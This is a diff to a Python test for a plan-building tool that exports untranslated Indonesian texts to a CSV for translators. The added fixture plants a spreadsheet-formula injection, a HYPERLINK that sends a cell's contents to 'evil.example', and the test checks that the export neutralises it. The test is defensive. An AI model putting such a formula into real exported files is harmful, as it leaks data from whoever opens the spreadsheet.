@@ -22,13 +22,14 @@ def test_an_english_edition_lists_what_it_prints_in_indonesian(make_plan: Callab
     nothing of them. The build now says how many, and lists each with its file, line and field."""
     agency = MINI_FILES[AGENCY].replace("name: e-Sambat (Media Sambat Masyarakat)",
                                         "name: {id: e-Sambat (Media Sambat Masyarakat), en: e-Sambat (Citizen Complaints)}")
+    agency = agency.replace("description: Warga **mengadu** lewat aplikasi.",
+                            "description: '=HYPERLINK(\"https://evil.example/?\"&A2,\"Klik\")'")
     assert agency != MINI_FILES[AGENCY]
     root = make_plan({"content/plan.yml": _english(MINI_FILES["content/plan.yml"]), AGENCY: agency})
     code, out, err = invoke("build", str(root), "--no-pdf", "--no-search")
     assert code == 0, out + err
     listed = root / "build" / "untranslated-en.csv"
-    assert "have no version in this edition's language (en) and are printed as written: the texts are listed in " \
-           "build/untranslated-en.csv" in out + err
+    assert "Without a version in this edition's language (en), printed as written: texts of the plan " in out + err
     raw = listed.read_bytes()
     assert raw.startswith("\ufeff".encode())  # Excel reads it as UTF-8
     rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
@@ -40,9 +41,11 @@ def test_an_english_edition_lists_what_it_prints_in_indonesian(make_plan: Callab
     assert {"programs › GOV-01 › indicators › 1 › name", "programs › GOV-01 › indicators › 1 › unit"} <= {
         row["field"] for row in rows if row["file"] == AGENCY}
     assert not any(row["field"] == "programs › GOV-01 › name" for row in rows)  # it has its English name
+    formula = next(row for row in rows if row["field"] == "programs › GOV-01 › description")
+    assert formula["text"].startswith("'=HYPERLINK(")  # an agency's text is no formula in the translator's Excel
     assert not any(row["field"] in ("short_name", "id", "kind") for row in rows)  # codes and proper names are no texts
     said = next(line for line in (out + err).splitlines() if "untranslated-en.csv" in line)
-    assert said.startswith(f"{len(rows)} texts of the plan and ")
+    assert f"texts of the plan {len(rows)}, chapters " in said and said.endswith("listed in build/untranslated-en.csv")
     # the Indonesian edition prints every text as written: no line, and the list of the English one is gone
     write_plan(root, {"content/plan.yml": MINI_FILES["content/plan.yml"]})
     code, out, err = invoke("build", str(root), "--no-pdf", "--no-search")
